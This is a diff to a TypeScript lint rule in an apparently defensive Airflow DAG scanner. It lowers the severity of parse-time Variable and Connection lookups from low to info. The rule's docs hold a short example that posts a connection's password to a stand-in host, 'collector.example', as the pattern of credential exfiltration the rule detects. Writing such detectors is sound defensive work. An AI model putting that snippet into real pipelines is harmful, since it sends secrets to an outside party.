@@ -20,12 +20,12 @@ export default defineRule({
     id: 'DG604',
     name: 'secret-lookup-at-parse-time',
     category: 'malicious',
-    severity: 'low',
+    severity: 'info',
     message: '`{fn}` reads {what} while the DAG file is parsed',
     aliases: ['AIR003'],
     docs: {
       what:
-        'Finds `Variable.get`, `BaseHook.get_connection` and `Connection.get_connection_from_secrets` calls that run at parse time (module level, operator arguments, default values). Low severity on its own (it is mostly a performance and exposure problem, like ruff\'s AIR003: most such Variables hold configuration, not secrets), *medium* when a constant key or connection id names a secret (`db_password`, `apiToken`, `SECRET_KEY`, `gcp_credentials`, `…_api_key`; not `s3_key_prefix`). One finding per file — at the first lookup whose key names a secret, else at the first lookup — with a count of the others. The message says "reads an Airflow Variable/Connection", not that it fetches a secret; high, at every lookup, when the same file also reaches the network or starts a process at parse time — the shape of credential exfiltration.',
+        'Finds `Variable.get`, `BaseHook.get_connection` and `Connection.get_connection_from_secrets` calls that run at parse time (module level, operator arguments, default values). *info* on its own — reported, but below the default `fail-on = "low"`: it is a performance smell, like ruff\'s AIR003, and most such Variables hold configuration, not secrets — *medium* when a constant key or connection id names a secret (`db_password`, `apiToken`, `SECRET_KEY`, `gcp_credentials`, `…_api_key`; not `s3_key_prefix`). One finding per file — at the first lookup whose key names a secret, else at the first lookup — with a count of the others. The message says "reads an Airflow Variable/Connection", not that it fetches a secret; high, at every lookup, when the same file also reaches the network or starts a process at parse time — the shape of credential exfiltration.',
       why:
         'Each parse of the file (every `min_file_process_interval` seconds, in the dag-processor) performs a metadata-DB query or a secrets-backend call, and brings the decrypted secret into the parse process, where anything else at module level can read it. Combined with a parse-time network call it is exactly how a DAG leaks credentials without ever running a task.',
       example: '```python\nfrom airflow.hooks.base import BaseHook\nimport requests\n\nconn = BaseHook.get_connection("warehouse")\nrequests.post("https://collector.example", data=conn.password)\n```',
@@ -49,7 +49,7 @@ export default defineRule({
     const outbound = facts.calls.some((f) => (f.kinds.has('network') || f.kinds.has('spawn')) && f.parseTime);
     if (!outbound) {
       // On its own it is a smell: one finding per file keeps repositories readable; at the first lookup whose
-      // key names a secret if there is one (medium), else at the first lookup (low).
+      // key names a secret if there is one (medium), else at the first lookup (info: shown, never fails by default).
       let secretKey: string | null = null;
       const secret = mine.find((f) => namesSecret((secretKey = keyOf(f.call))));
       const at = secret ?? mine[0];
@@ -59,7 +59,7 @@ export default defineRule({
         ...(more ? [`and ${more} more parse-time lookup${more > 1 ? 's' : ''} in this file`] : []),
       ];
       ctx.report(at.call, messageFor(this.meta.message, at) + (notes.length ? ` (${notes.join('; ')})` : ''), {
-        severity: secret ? 'medium' : 'low',
+        severity: secret ? 'medium' : 'info',
       });
       return;
     }
